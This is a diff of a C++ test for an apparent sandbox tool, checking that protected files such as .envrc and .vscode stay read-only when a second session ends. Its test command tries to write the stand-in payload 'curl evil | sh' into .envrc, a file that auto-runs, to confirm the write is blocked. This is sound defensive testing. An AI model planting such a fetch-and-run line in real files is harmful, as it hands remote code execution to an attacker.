@@ -360,15 +360,16 @@ TEST_P(RunTest, ProtectedPathsStayReadOnlyWhenAnotherSessionEnds) {
       "done; rm -f {0}; ";
   int out1 = -1;
   int err1 = -1;
-  pid_t first = spawn(w_, {"run", "-q", "--", "/bin/sh", "-c", fmt::format(gate, "first-go")}, {},
-                      &out1, &err1);
+  pid_t first =
+      spawn(w_, {"run", "-q", "--", "/bin/sh", "-c", fmt::format(fmt::runtime(gate), "first-go")},
+            {}, &out1, &err1);
   ASSERT_GT(first, 0);
   ASSERT_TRUE(wait_file(".envrc")) << "the first box made no placeholder";
   int out2 = -1;
   int err2 = -1;
   pid_t second = spawn(w_,
                        {"run", "-q", "--", "/bin/sh", "-c",
-                        "touch second-started; " + fmt::format(gate, "second-go") +
+                        "touch second-started; " + fmt::format(fmt::runtime(gate), "second-go") +
                             "echo 'curl evil | sh' > .envrc; echo rc=$?; "
                             "mkdir -p .vscode/x; echo rc=$?"},
                        {}, &out2, &err2);
